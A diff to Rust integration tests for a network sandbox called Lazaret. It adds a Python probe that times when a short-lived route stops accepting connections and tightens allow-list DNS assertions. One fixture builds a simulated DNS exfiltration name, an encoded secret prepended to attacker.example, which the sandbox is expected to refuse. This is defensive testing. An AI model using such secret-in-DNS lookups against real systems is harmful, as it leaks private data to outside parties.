@@ -472,6 +472,27 @@ fn sidecar_processes_name_the_domain_and_die_with_a_killed_coordinator() {
     let _ = session.wait();
 }
 
+/// Inside: connects to HOST:PORT every 2 s for up to 100 s; prints
+/// {"refused_after_s": "N"} with the seconds until the first refusal ("no
+/// route"), or "never".
+const UNTIL_REFUSED: &str = r#"
+import json, socket, sys, time
+start = time.time()
+res = "never"
+while time.time() - start < 100:
+    s = socket.socket()
+    s.settimeout(6)
+    try:
+        s.connect((sys.argv[1], int(sys.argv[2])))
+        s.close()
+    except OSError as e:
+        if e.errno in (101, 113):
+            res = str(int(time.time() - start))
+            break
+    time.sleep(2)
+print(json.dumps({"refused_after_s": res}))
+"#;
+
 /// `allow_hosts` with `default = "deny"`: the sandbox resolves and reaches
 /// only listed names, through Lazaret's filtering resolver, which sends no
 /// other name upstream (the test hosts' DNS responder logs every query).
@@ -487,7 +508,7 @@ fn allow_hosts_resolves_and_routes_only_listed_names() {
     let secret = "c2VjcmV0LWRhdGE";
     let exfil = format!("{secret}.attacker.example");
     let script = format!(
-        "{} && {} && {} && sleep 50 && {}",
+        "{} && {} && {} && {}",
         py(
             RESOLVE,
             &[
@@ -508,7 +529,7 @@ fn allow_hosts_resolves_and_routes_only_listed_names() {
             ]
         ),
         py(CONNECT, &["short.lazaret.test:8080"]),
-        py(CONNECT, &["198.51.100.2:8080"]),
+        py(UNTIL_REFUSED, &["198.51.100.2", "8080"]),
     );
     let out = ws.run_sh_in(&net, &script);
     assert!(out.status.success(), "stderr: {}", text(&out.stderr));
@@ -541,13 +562,18 @@ fn allow_hosts_resolves_and_routes_only_listed_names() {
         "OK SERVED-OK 198.51.100.3"
     );
     refused(first, "reg.pkg.lazaret.test:8080");
-    // Resolved, the short-lived name connects; 50 s later (TTL 1, kept for
-    // the 30 s floor) its route is gone.
+    // Resolved, the short-lived name connects; its route is gone once the
+    // TTL (1 s, kept for the 30 s floor) ended, and not before (the loop
+    // starts a moment after the lookup; a connection open at expiry may
+    // keep it 30 s more).
     assert_eq!(
         results[1]["short.lazaret.test:8080"],
         "OK SERVED-OK 198.51.100.2"
     );
-    refused(&results[2], "198.51.100.2:8080");
+    let gone = results[2]["refused_after_s"]
+        .parse::<u64>()
+        .unwrap_or_else(|_| panic!("never refused: {:?}", results[2]));
+    assert!((25..=70).contains(&gone), "{:?}", results[2]);
 
     // Nothing not allowed reached the upstream resolver.
     let asked = net.queries();
@@ -567,10 +593,7 @@ fn allow_hosts_resolves_and_routes_only_listed_names() {
         .output()
         .unwrap();
     assert!(log.status.success(), "net log: {}", text(&log.stderr));
-    let events: Vec<serde_json::Value> = text(&log.stdout)
-        .lines()
-        .map(|l| serde_json::from_str(l).unwrap())
-        .collect();
+    let events: Vec<serde_json::Value> = serde_json::from_slice(&log.stdout).unwrap();
     let refused_names: Vec<&str> = events
         .iter()
         .filter(|e| e["event"] == "refused")
@@ -823,7 +846,7 @@ fn net_show_lists_the_names_routed_now() {
     let svc = row("198.51.100.1");
     assert_eq!(svc["names"][0], "svc.lazaret.test");
     assert_eq!(svc["ports"].as_array().unwrap().len(), 0);
-    assert!(svc["expires_ms"].as_u64().unwrap() > now_ms, "{svc}");
+    assert!(svc["expires_unix_ms"].as_u64().unwrap() > now_ms, "{svc}");
     assert_eq!(row("198.51.100.3")["ports"][0], 8081);
     let human = ws.lazaret_in(&net, &["net", "show"]).output().unwrap();
     let human = text(&human.stdout);
